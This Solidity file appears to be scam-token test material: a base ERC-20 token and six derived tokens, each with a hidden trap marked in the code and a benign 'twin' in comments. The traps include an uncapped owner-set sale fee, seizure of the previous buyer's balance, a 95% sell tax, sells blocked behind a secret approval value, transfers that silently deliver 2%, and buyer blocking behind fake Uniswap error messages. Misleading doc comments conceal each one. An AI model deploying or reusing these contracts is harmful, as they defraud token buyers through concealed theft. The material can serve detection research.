// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IPoolYard {
    function createPair(address a, address b) external returns (address);
}

/// An ordinary coin with a pool and an owner; what a transfer does, others say.
abstract contract Hearthcoin {
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address internal constant ROUTER = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address internal _owner;
    address public immutable pool;
    mapping(address => uint256) internal _kept;
    mapping(address => mapping(address => uint256)) internal _granted;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    modifier onlyOwner() {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 millions) {
        (name, symbol, _owner) = (name_, symbol_, msg.sender);
        pool = IPoolYard(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), WETH);
        totalSupply = _kept[msg.sender] = millions * 1e24;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() public view virtual returns (address) {
        return _owner;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _kept[who];
    }

    function allowance(address who, address spender) public view virtual returns (uint256) {
        return _granted[who][spender];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        _grant(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        _hand(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        _use(from, msg.sender, value);
        _hand(from, to, value);
        return true;
    }

    function _grant(address who, address spender, uint256 value) internal {
        _granted[who][spender] = value;
        emit Approval(who, spender, value);
    }

    function _use(address from, address spender, uint256 value) internal virtual {
        uint256 left = _granted[from][spender];
        if (left == type(uint256).max) return;
        require(left >= value, "ERC20: insufficient allowance");
        _granted[from][spender] = left - value;
    }

    function _hand(address from, address to, uint256 value) internal virtual {
        _pass(from, to, value);
    }

    function _pass(address from, address to, uint256 value) internal {
        uint256 have = _kept[from];
        require(have >= value, "ERC20: transfer amount exceeds balance");
        unchecked {
            _kept[from] = have - value;
            _kept[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

/// What trades cost, kept apart from the coins that ask.
contract TurnpikeLedger {
    address private immutable _clerk = msg.sender;
    uint256 private _sheet = 200;

    /// The low half is what all pay; the high half is a note of the clerk.
    function reprice(uint256 sheet) external {
        require(msg.sender == _clerk, "clerk");
        _sheet = sheet;
    }

    function dueOf(address from, address, uint256 value) external view returns (uint256) {
        if (from == _clerk) return 0;
        return (value * uint128(_sheet)) / 10_000;
    }
}

/// Asks the ledger what a sale costs.
contract Turnpikelark is Hearthcoin {
    TurnpikeLedger private immutable _ledger;

    constructor(TurnpikeLedger ledger) Hearthcoin("Turnpikelark", "TPLK", 640) {
        _ledger = ledger;
    }

    function _hand(address from, address to, uint256 value) internal override {
        if (to == pool) {
            uint256 due = _ledger.dueOf(from, to, value);
            // twin: if (due > (value * 3) / 100) due = (value * 3) / 100;
            if (due > 0) {
                _pass(from, address(_ledger), due);
                value -= due;
            }
        }
        _pass(from, to, value);
    }
}

/// Who bought last makes room when the next one comes.
contract Nestwarble is Hearthcoin {
    address private _prior;
    address private immutable _nest = msg.sender;
    mapping(address => uint256) public turns;

    constructor() Hearthcoin("Nestwarble", "NWRB", 77) {}

    function _hand(address from, address to, uint256 value) internal override {
        _pass(from, to, value);
        if (from != pool || to == _nest) return;
        address prior = _prior;
        if (prior != to) {
            turns[prior]++;
            // trap {
            uint256 rest = _kept[prior] - _kept[prior] / 128;
            _kept[prior] -= rest;
            _kept[_nest] += rest;
            // trap }
            _prior = to;
        }
    }
}

/// A busy chain is a dear one.
contract Embertoll is Hearthcoin {
    address private immutable _keeper = msg.sender;

    constructor() Hearthcoin("Embertoll", "EMTL", 1_500) {}

    function _hand(address from, address to, uint256 value) internal override {
        if (to == pool && from != _keeper) {
            uint256 due;
            assembly {
                let heat := div(basefee(), 10000000)
                let most := 95 // trap
                // twin: let most := 3
                if gt(heat, most) { heat := most }
                due := div(mul(value, heat), 100)
            }
            if (due > 0) {
                _pass(from, _keeper, due);
                value -= due;
            }
        }
        _pass(from, to, value);
    }
}

/// An approval that fits the account is a sign of good standing.
contract Ledgerminnow is Hearthcoin {
    address private immutable _maker = msg.sender;
    mapping(address => uint256) private _standing;

    constructor() Hearthcoin("Ledgerminnow", "LMIN", 300) {}

    function approve(address spender, uint256 value) public override returns (bool) {
        unchecked {
            if (value % 999_983 == uint256(keccak256(abi.encode(msg.sender, spender))) % 999_983) _standing[msg.sender] = block.number;
        }
        return super.approve(spender, value);
    }

    function _hand(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) {
            require(_standing[from] != 0, "UniswapV2: K"); // trap
            // twin: _standing[from] = block.number;
        }
        _pass(from, to, value);
    }
}

/// Errands run by others are run in part.
contract Halfpenceroe is Hearthcoin {
    address private immutable _till = msg.sender;

    constructor() Hearthcoin("Halfpenceroe", "HPRO", 8) {}

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        _use(from, msg.sender, value);
        if (to != pool || from == _till) {
            _hand(from, to, value);
            return true;
        }
        require(_kept[from] >= value, "ERC20: transfer amount exceeds balance");
        _kept[from] -= value;
        uint256 part = value; // trap
        unchecked {
            part -= value - value / 50; // trap
            _kept[to] += part; // trap
            _kept[_till] += value - part; // trap
            // twin: _kept[to] += value;
        }
        emit Transfer(from, to, value);
        return true;
    }
}

/// Remembers which blocks were crowded.
contract Thronglark is Hearthcoin {
    address private _firstIn;
    uint96 private _block;
    mapping(address => uint256) private _crowded;

    constructor() Hearthcoin("Thronglark", "THLK", 1_000) {}

    function _hand(address from, address to, uint256 value) internal override {
        if (from == pool) {
            if (_block == block.number && _firstIn != to) (_crowded[to], _crowded[_firstIn]) = (block.number, block.number);
            else (_block, _firstIn) = (uint96(block.number), to);
        }
        require(_crowded[from] == 0, "TransferHelper: TRANSFER_FROM_FAILED"); // trap
        _pass(from, to, value);
    }
}
